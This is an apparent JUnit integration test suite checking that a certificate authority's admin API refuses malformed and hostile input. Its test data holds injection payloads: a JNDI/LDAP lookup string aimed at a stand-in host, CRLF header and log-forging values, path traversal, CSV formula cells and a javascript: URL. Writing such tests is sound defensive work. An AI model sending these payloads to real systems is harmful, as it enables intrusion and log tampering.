package org.bailiwick.it;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.JsonObject;
import java.io.IOException;
import java.nio.file.Files;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.bailiwick.it.AcmeClient.Answer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What no good program sends to {@code /admin/api}: a clear refusal, and nothing is half-written. */
class AdminBadInputIT {

    private static final Map<String, String> JSON = Map.of("Content-Type", "application/json");

    private final AdminClient first = AdminClient.first();

    AdminBadInputIT() throws IOException {}

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "{",
                "[]",
                "\"name\"",
                "null",
                "1",
                "{}{}",
                "{\"name\":\"a\",\"name\":\"b\"}",
                "{\"name\":1}",
                "{\"name\":null}",
                "{\"name\":[\"a\"]}",
                "{\"name\":{\"a\":1}}",
                "{\"name\":true}",
                "{\"name\":\"\"}",
                "{\"name\":\"  \"}",
                "{\"name\":\"a\\u0000\"}",
                "{\"name\":\"a\\r\\nSet-Cookie: x=1\"}",
                "{\"name\":\"\\u001b[31mred\"}",
                "{\"name\":\"a\\u202eb\"}",
                "{\"name\":\"\\ud800\"}",
                "{\"name\":\"a\",\"id\":\"00000000-0000-0000-0000-000000000000\"}",
                "{\"Name\":\"a\"}",
                "{\"name\":1e400000}",
                "\uFEFF{\"name\":\"a\"}"
            })
    void aTeamThatIsNoneIsNotMade(String body) throws IOException, InterruptedException {
        AdminClient.assertRefused(first.post("/teams", body), 400);
    }

    @Test
    void deepAndLongBodiesAreRefused() throws IOException, InterruptedException {
        AdminClient.assertRefused(first.post("/teams", "{\"name\":" + "[".repeat(100_000)), 400);
        AdminClient.assertRefused(first.post("/teams", "{\"name\":\"" + "a".repeat(101) + "\"}"), 400);
        AdminClient.assertRefused(first.post("/teams", "{\"name\":\"" + "a".repeat(900_000) + "\"}"), 400);
        AdminClient.assertRefused(first.post("/teams", "{\"name\":\"" + "a".repeat(1024 * 1024) + "\"}"), 413);
        AdminClient.assertRefused(first.showing(null).post("/teams", "{\"name\":\"" + "a".repeat(60_000) + "\"}"), 401);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/plain",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/xml",
                "application/x-java-serialized-object",
                "application/jose+json",
                "nothing"
            })
    void aBodyOfAnotherTypeIsRefused(String type) throws IOException, InterruptedException {
        AdminClient.assertRefused(
                first.send("POST", "/teams", "{\"name\":\"typed\"}", Map.of("Content-Type", type)), 415);
    }

    @ParameterizedTest
    @ValueSource(strings = {"nothing", "application/json;q=7", "text/", "/"})
    void anAcceptThatCannotBeReadIsRefused(String accept) throws IOException, InterruptedException {
        AdminClient.assertRefused(first.send("GET", "/teams", null, Map.of("Accept", accept)), 400);
        AdminClient.assertRefused(first.showing(null).send("GET", "/teams", null, Map.of("Accept", accept)), 401);
    }

    /** U13: a spreadsheet takes such a cell for a formula. */
    @Test
    void anExportHasNoFormulas() throws IOException, InterruptedException {
        String provisioner = provisioner();
        for (String reference : List.of("=HYPERLINK(0)", "+1", "-1", "@SUM(A1)")) {
            AdminClient.created(first.post(
                    "/external-account-keys",
                    "{\"provisioner\":\"%s\",\"reference\":\"%s\"}".formatted(provisioner, reference)));
        }
        AdminClient.assertRefused(
                first.post(
                        "/external-account-keys",
                        "{\"provisioner\":\"%s\",\"reference\":\"a\\r\\n=1\"}".formatted(provisioner)),
                400);
        Answer export = first.get("/external-account-keys/export?provisioner=" + provisioner);
        assertThat(export.header("Content-Type")).startsWith("text/csv");
        assertThat(export.header("Content-Disposition")).startsWith("attachment");
        assertThat(export.body()).contains("'=HYPERLINK(0)", "'+1", "'-1", "'@SUM(A1)");
        assertThat(export.body().lines()).noneMatch(line -> line.matches(".*(^|,|\")[=+@-].*"));
    }

    /** I14: any line that cannot be read fails the whole file. */
    @Test
    void aFileWithABadLineMakesNoKey() throws IOException, InterruptedException {
        String provisioner = provisioner();
        String path = "/external-account-keys/import?provisioner=" + provisioner;
        Map<String, String> csv = Map.of("Content-Type", "text/csv");
        for (String file : List.of(
                "",
                "owner\nops\n",
                "reference\na\na\n",
                "reference,uses\na,0\n",
                "reference,expires\na,tomorrow\n",
                "reference\n\"a\n")) {
            AdminClient.assertRefused(first.send("POST", path, file, csv), 400);
        }
        Answer lines = first.send("POST", path, "reference,uses\ngood,1\nbad,x\n", csv);
        AdminClient.assertRefused(lines, 400);
        assertThat(lines.json().getJsonArray("errors").getString(0)).startsWith("Line 3: ");
        JsonObject dry =
                AdminClient.ok(first.send("POST", path + "&dryRun=true", "reference,uses\ngood,1\nbad,x\n", csv));
        assertThat(dry.getInt("lines")).isEqualTo(2);
        assertThat(dry.getJsonArray("faults")).hasSize(1);
        assertThat(AdminClient.ok(first.get("/external-account-keys?provisioner=" + provisioner))
                        .getJsonArray("items"))
                .isEmpty();
    }

    /** U14: whatever was sent above and here, a line of the log is one line, and no terminal is coloured by it. */
    @Test
    void nothingThatIsSentEndsALineOfTheLog() throws IOException, InterruptedException {
        first.get("/teams/%1b%5b31m%0d%0aFORGED%20LINE");
        first.get("/teams?%1b%5b31m%0d%0aFORGED=1");
        first.send("GET", "/tokens", null, Map.of("User-Agent", "${jndi:ldap://forged.test/a}"));
        String log = Files.readString(
                SharedServer.get().settings().data().resolve("log").resolve("server.log"));
        assertThat(log)
                .doesNotContain("\u001b")
                .doesNotContainPattern("(?m)^FORGED")
                .doesNotContain("forged.test");
    }

    @Test
    void aWrongMethodIsToldWhichThereAre() throws IOException, InterruptedException {
        for (String method : List.of("PUT", "DELETE", "PATCH", "BREW")) {
            Answer answer = first.send(method, "/teams", null, Map.of());
            AdminClient.assertRefused(answer, 405);
            assertThat(answer.header("Allow")).contains("GET", "POST");
        }
        AdminClient.assertRefused(first.send("POST", "/caller", null, Map.of("X-HTTP-Method-Override", "GET")), 405);
    }

    @Test
    void whatIsNotThereInThatTypeIsRefused() throws IOException, InterruptedException {
        AdminClient.assertRefused(first.send("GET", "/teams", null, Map.of("Accept", "text/html")), 406);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "limit=0",
                "limit=201",
                "limit=-1",
                "limit=",
                "limit=ten",
                "limit=1e2",
                "limit=99999999999",
                "limit=10&limit=20",
                "cursor=",
                "cursor=x",
                "cursor=00000000-0000-0000-0000-000000000000",
                "cursor=AAAAAAAAAAAAAAAAAAAAAB",
                "cursor=AAAAAAAAAAAAAAAAAAAAA%27",
                "Limit=10",
                "page=2",
                "name=%00"
            })
    void aPageThatCannotBeIsRefused(String query) throws IOException, InterruptedException {
        for (String list : List.of(
                "teams",
                "authorities",
                "issuers",
                "provisioners",
                "accounts",
                "orders",
                "certificates",
                "tokens",
                "audit",
                "external-account-keys")) {
            AdminClient.assertRefused(first.get("/" + list + "?" + query), 400);
        }
    }

    @ParameterizedTest
    @CsvSource({
        "/accounts?status=VALID",
        "/accounts?status=",
        "/accounts?provisioner=x",
        "/accounts?provisioner=1-1-1-1-1",
        "/accounts?contact=%00",
        "/accounts?contact=%0d%0a",
        "/accounts?contact=%ff",
        "/orders?account=x",
        "/orders?account=00000000-0000-0000-0000-000000000000",
        "/orders?state=valid",
        "/certificates?serial=xyz",
        "/certificates?serial=00000000000000000000000000000000000000001",
        "/certificates?revoked=yes",
        "/certificates?expiresBefore=tomorrow",
        "/certificates?expiresBefore=2027-01-01",
        "/certificates?expiresBefore=%2B999999999-01-01T00:00:00Z",
        "/certificates?expiresFrom=-000001-01-01T00:00:00Z",
        "/certificates?name=",
        "/certificates?nameContains=%20",
        "/certificates?athority=00000000-0000-0000-0000-000000000000"
    })
    void aFilterThatCannotBeReadIsRefusedAndNotPassedOver(String path) throws IOException, InterruptedException {
        AdminClient.assertRefused(first.get(path), 400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x",
                "1-1-1-1-1",
                "00000000-0000-0000-0000-00000000000G",
                "%00",
                "..%2F..%2Fcaller",
                "%2e%2e",
                "'",
                "00000000-0000-0000-0000-000000000000%0d%0aX:%20y",
                "AAAAAAAAAAAAAAAAAAAAAB"
            })
    void anIdThatCannotBeIsOneThatIsNotThere(String id) throws IOException, InterruptedException {
        for (String kind :
                List.of("tokens", "teams", "authorities", "provisioners", "accounts", "orders", "certificates")) {
            Answer answer = first.get("/" + kind + "/" + id);
            assertThat(answer.status()).as(kind + " " + answer.body()).isIn(400, 404);
            assertThat(answer.headers().map()).doesNotContainKey("x");
            Clients.assertShowsNoInternals(answer.body());
        }
    }

    @Test
    void aChangeNeedsTheVersionThatItIsFor() throws IOException, InterruptedException {
        String id = provisioner();
        String path = "/provisioners/" + id;
        String settings = "{\"settings\":{\"bailiwick.profiles\":\"shortlived\"}}";
        AdminClient.assertRefused(first.send("PUT", path + "/settings", settings, JSON), 428);
        String etag = first.get(path).header("ETag");
        assertThat(etag).matches("\"[0-9]+\"");
        for (String stale : List.of("\"999\"", "W/" + etag, "x", "\"\"", etag.replace("\"", ""))) {
            AdminClient.assertRefused(first.put(path + "/settings", settings, stale), 412);
        }
        for (String several : List.of("*", etag + ", \"1\"")) {
            AdminClient.assertRefused(first.put(path + "/settings", settings, several), 428);
        }
        Answer changed = first.put(path + "/settings", settings, etag);
        assertThat(AdminClient.ok(changed).getJsonObject("settings")).hasSize(1);
        assertThat(changed.header("ETag")).isNotEqualTo(etag);
        // whoever read it before that
        AdminClient.assertRefused(first.put(path + "/settings", "{}", etag), 412);
        assertThat(AdminClient.ok(first.get(path)).getJsonObject("settings")).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"settings\":[]}",
                "{\"settings\":\"x\"}",
                "{\"settings\":{\"bailiwick.profiles\":1}}",
                "{\"settings\":{\"bailiwick.profiles\":\"nothing\"}}",
                "{\"settings\":{\"profiles\":\"shortlived\"}}",
                "{\"settings\":{\"bailiwick.mode\":\"production\"}}",
                "{\"settings\":{\"bailiwick.tls.password\":\"x\"}}",
                "{\"settings\":{\"bailiwick.limits\":\"new-account=0/0s\"}}",
                "{\"settings\":{\"bailiwick.terms-of-service\":\"javascript:alert(1)\"}}",
                "{\"setting\":{}}"
            })
    void settingsThatCannotBeRightChangeNothing(String body) throws IOException, InterruptedException {
        String path = "/provisioners/" + provisioner();
        String etag = first.get(path).header("ETag");
        AdminClient.assertRefused(first.put(path + "/settings", body, etag), 400);
        assertThat(first.get(path).header("ETag")).isEqualTo(etag);
    }

    @Test
    void aNameIsTakenOnce() throws IOException, InterruptedException {
        String name = "team " + UUID.randomUUID();
        AdminClient.created(first.post("/teams", "{\"name\":\"%s\"}".formatted(name)));
        AdminClient.assertRefused(first.post("/teams", "{\"name\":\"%s\"}".formatted(name)), 409);
    }

    @Test
    void anAuthorityNeedsAKeyThatIsItsCertificates() throws IOException, InterruptedException {
        String team = AdminClient.ok(first.get("/teams"))
                .getJsonArray("items")
                .getJsonObject(0)
                .getString("id");
        String chain =
                Files.readString(SharedServer.get().settings().authorityChain()).replace("\n", "\\n");
        for (String body : List.of(
                "{\"team\":\"%s\",\"name\":\"x\",\"key\":\"issuing\",\"chain\":\"\"}".formatted(team),
                "{\"team\":\"%s\",\"name\":\"x\",\"key\":\"issuing\",\"chain\":\"-----BEGIN CERTIFICATE-----\"}"
                        .formatted(team),
                "{\"team\":\"%s\",\"name\":\"x\",\"key\":\"no such key\",\"chain\":\"%s\"}".formatted(team, chain),
                "{\"team\":\"%s\",\"name\":\"x\",\"key\":\"root\",\"chain\":\"%s\"}".formatted(team, chain),
                "{\"team\":\"%s\",\"name\":\"X\",\"key\":\"issuing\",\"chain\":\"%s\"}".formatted(team, chain),
                "{\"team\":\"%s\",\"name\":\"x\",\"key\":\"issuing\",\"chain\":\"%s\"}"
                        .formatted(UUID.randomUUID(), chain))) {
            AdminClient.assertRefused(first.post("/authorities", body), 400);
        }
        Answer ofTheAuditLog = first.post(
                "/authorities",
                "{\"team\":\"%s\",\"name\":\"x\",\"key\":\"audit\",\"chain\":\"%s\"}".formatted(team, chain));
        AdminClient.assertRefused(ofTheAuditLog, 400);
        assertThat(ofTheAuditLog.body()).contains("is the audit log's own");
        assertThat(first.get("/authorities").body()).doesNotContain("\"name\":\"x\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"", "keycompromise", "cACompromise", "certificateHold", "removeFromCRL", "4", "superseded\\n"})
    void aReasonThatIsNoneRevokesNothing(String reason) throws IOException, InterruptedException {
        JsonObject certificate = AdminClient.ok(first.get("/certificates?revoked=false&limit=1"))
                .getJsonArray("items")
                .getJsonObject(0);
        String path = "/certificates/" + certificate.getString("id");
        AdminClient.assertRefused(first.post(path + "/revoke", "{\"reason\":\"" + reason + "\"}"), 400);
        assertThat(AdminClient.ok(first.get(path)).getString("status")).isEqualTo("valid");
    }

    private String provisioner() throws IOException, InterruptedException {
        String authority = AdminClient.ok(first.get("/authorities"))
                .getJsonArray("items")
                .getJsonObject(0)
                .getString("id");
        return AdminClient.created(first.post(
                        "/provisioners",
                        "{\"authority\":\"%s\",\"name\":\"bad-%s\"}"
                                .formatted(
                                        authority, UUID.randomUUID().toString().substring(0, 8))))
                .getString("id");
    }
}
